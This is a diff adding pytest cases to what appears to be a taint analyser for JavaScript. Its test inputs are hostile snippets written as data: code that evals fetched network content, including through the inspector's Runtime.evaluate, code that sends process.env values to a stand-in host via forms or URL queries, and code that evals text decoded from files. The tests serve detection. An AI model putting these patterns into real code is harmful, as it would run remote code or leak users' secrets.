@@ -186,3 +186,54 @@ def test_options_that_name_themselves_are_read_to_an_end() -> None:
 
 def test_an_address_that_shows_its_code_is_no_decoded_data() -> None:
     assert [] == flows("import('data:text/javascript,f(1)')")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "async function f() { eval(await (0, a.fetched)(x)) }",
+        "async function f() { const x = await (a.fetched)(y); eval(x) }",
+        "async function* g() { yield await (0, a.fetched)(x) } async function f() { for await (const p of g()) eval(p) }",
+    ],
+)
+def test_a_call_that_the_grammar_takes_for_one_of_await(source: str) -> None:
+    assert (C, "eval", {Taint.NETWORK}) in flows(f"const a = {{fetched: fetch}}; {source}")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "const f = new FormData(); f.append('a', process.env.KEPT); fetch('https://a.invalid', {body: f})",
+        "const u = new URL('https://a.invalid/x'); u.searchParams.set('a', process.env.KEPT); require('https').get(u.toString())",
+    ],
+    ids=["a form", "a query"],
+)
+def test_what_a_form_or_an_address_is_filled_with_is_sent(source: str) -> None:
+    assert any(flow[0] is N and Taint.ENVIRONMENT in flow[2] for flow in flows(source))
+
+
+def test_an_inspector_is_told_to_run_code() -> None:
+    head = "const s = new (require('inspector').Session)(); fetch(u).then(expression => "
+    assert [(C, "inspector.Session.post", {Taint.NETWORK})] == flows(
+        head + "s.post('Runtime.evaluate', {expression}))"
+    )
+    assert [] == flows(head + "s.post('Profiler.start', {expression}))")
+
+
+@pytest.mark.parametrize(
+    ("source", "told"),
+    [
+        ("eval(fs.readFileSync('../LICENSE', 'utf8'))", True),
+        ("eval(fs.readFileSync('a.map').toString().split('').map(c => c > 1 ? 1 : 0).join(''))", True),
+        ("eval(fs.readFileSync('./a.txt', 'utf8'))", False),
+        ("fs.readFileSync('../LICENSE', 'utf8'); eval(x)", False),
+    ],
+)
+def test_what_is_written_for_readers_is_run(source: str, told: bool) -> None:
+    found = facts("const fs = require('fs'); " + source).uses
+    assert told == any(use.api == "text-for-readers" for use in found)
+
+
+def test_an_address_whose_query_is_filled_says_still_where_it_goes() -> None:
+    source = "const u = new URL('https://a.invalid/x'); u.searchParams.set('a', process.env.KEPT); fetch(u)"
+    assert ["https://a.invalid/x"] == [flow.target for flow in facts(source).flows]
